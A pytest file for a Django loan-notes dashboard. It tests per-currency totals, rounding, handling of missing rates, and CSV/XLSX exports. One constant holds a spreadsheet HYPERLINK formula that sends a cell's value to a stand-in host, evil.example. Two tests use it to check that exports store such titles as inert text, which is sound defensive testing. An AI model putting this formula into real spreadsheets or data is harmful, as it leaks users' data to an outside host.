"""The dashboard and its exports: figures per currency, unknowns said as unknown, cells as data."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from notes.money import CurrencyMismatch, Money
from tests.notes.factories import NoteFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def test_a_usd_and_a_eur_note_give_two_totals_never_one_sum(client_as, cfo, matter):
    NoteFactory(matter=matter, principal=Decimal("100000"), currency="USD")
    NoteFactory(matter=matter, principal=Decimal("50000"), currency="EUR")
    page = client_as(cfo).get("/notes/?as_of=2025-04-01")
    totals = page.context["board"].totals
    assert [(t.currency, t.principal, t.accrued) for t in totals] == [
        ("EUR", Money(Decimal("50000"), "EUR"), Money(Decimal("1479.45"), "EUR")),
        ("USD", Money(Decimal("100000"), "USD"), Money(Decimal("2958.90"), "USD")),
    ]
    html = page.content.decode()
    assert "EUR 50,000.00" in html
    assert "USD 100,000.00" in html
    assert "150,000.00" not in html
    assert [currency for currency, _, _ in page.context["ladders"]] == ["EUR", "USD"]


def test_money_refuses_to_add_two_currencies_and_rounds_to_each_minor_unit():
    with pytest.raises(CurrencyMismatch):
        Money(Decimal("1"), "USD") + Money(Decimal("1"), "EUR")
    assert Money(Decimal("1.005"), "USD").amount == Decimal("1.01")
    assert Money(Decimal("100.5"), "JPY").amount == Decimal("101")
    assert Money(Decimal("1.0005"), "KWD").amount == Decimal("1.001")
    assert str(Money(Decimal("1234.5"), "usd")) == "USD 1,234.50"


def test_a_note_without_a_rate_says_not_recorded_and_is_counted_beside_the_totals(client_as, cfo, matter):
    NoteFactory(matter=matter, title="With rate", principal=Decimal("100000"))
    NoteFactory(matter=matter, title="No rate", principal=Decimal("40000"), interest_rate=None, day_count="")
    page = client_as(cfo).get("/notes/?as_of=2025-04-01")
    usd = page.context["board"].totals["USD"]
    assert (usd.principal, usd.accrued, usd.payoff) == (
        Money(Decimal("140000"), "USD"), Money(Decimal("2958.90"), "USD"), Money(Decimal("102958.90"), "USD"))
    assert usd.notes_without_rate == 1
    html = page.content.decode()
    assert "1 note without a rate not included" in html
    no_rate = next(r for r in page.context["board"].rows if r.note.title == "No rate")
    assert (no_rate.accrued, no_rate.payoff) == (None, None)


def test_the_dashboard_shows_each_notes_payoff_amount(client_as, cfo, matter):
    NoteFactory(matter=matter, principal=Decimal("100000"))
    page = client_as(cfo).get("/notes/?as_of=2025-04-01")
    assert '<td class="num" data-testid="payoff">USD 102,958.90</td>' in page.content.decode()


def test_the_csv_starts_with_its_header_and_leaves_unknown_numbers_empty(client_as, cfo, matter):
    NoteFactory(matter=matter, title="No rate", principal=Decimal("40000"), interest_rate=None, day_count="")
    text = client_as(cfo).post("/notes/export.csv", {"as_of": "2025-04-01"}).content.decode()
    header, row = list(csv.reader(io.StringIO(text)))
    assert header[:2] == ["As of", "Note"]
    record = dict(zip(header, row, strict=True))
    assert (record["As of"], record["Note"], record["Accrued interest"], record["Payoff amount"]) == ("2025-04-01", "No rate", "", "")
    assert record["Principal outstanding"] == "40000.00"
    assert "not recorded" not in text


def test_a_formula_in_a_title_is_text_in_the_csv(client_as, cfo, matter):
    NoteFactory(matter=matter, title=EVIL)
    text = client_as(cfo).post("/notes/export.csv", {"as_of": "2025-04-01"}).content.decode()
    _, row = list(csv.reader(io.StringIO(text)))
    assert row[1] == "'" + EVIL


def test_a_formula_in_a_title_is_a_text_cell_in_the_xlsx(client_as, cfo, matter):
    NoteFactory(matter=matter, title=EVIL, currency="USD")
    content = client_as(cfo).post("/notes/export.xlsx", {"as_of": "2025-04-01"}).content
    sheet = load_workbook(io.BytesIO(content)).active
    title = sheet.cell(row=2, column=2)
    assert (title.value, title.data_type) == ("'" + EVIL, "s")
    assert [c.data_type for c in sheet[2] if isinstance(c.value, str)] == ["s"] * sum(isinstance(c.value, str) for c in sheet[2])
    assert [c.value for c in sheet[1]][:2] == ["As of", "Note"]
    assert sheet.cell(row=2, column=1).value.date() == date(2025, 4, 1)
    assert sheet.cell(row=2, column=12).value == 100000


def test_the_sort_options_are_in_words(cfo, client_as):
    page = client_as(cfo).get("/notes/").content.decode()
    assert ">Maturity, latest first<" in page and ">Principal, largest first<" in page
    assert ">-maturity<" not in page
